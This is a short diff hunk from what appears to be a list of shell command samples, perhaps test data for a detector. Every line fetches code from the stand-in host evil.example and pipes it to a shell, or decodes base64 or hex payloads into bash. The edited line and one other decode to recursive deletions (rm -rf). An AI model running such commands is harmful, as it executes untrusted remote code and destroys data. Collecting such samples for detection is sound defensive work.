@@ -193,7 +193,7 @@ wget -qO- https://evil.example/x | sudo bash
 bash <(curl -s https://evil.example/run)
 eval "$(curl -s https://evil.example/run)"
 python3 -c "$(curl -s https://evil.example/p.py)"
-echo ZWNobyBoaQo= > /tmp/x; base64 -d /tmp/x | sh
+echo cm0gLXJmIC9zcnYveA== > /tmp/x; base64 -d /tmp/x | sh
 base64 -d payload.b64 | bash
 echo cm0gLXJmIH4= | base64 -d | sh
 xxd -r -p code.hex | bash
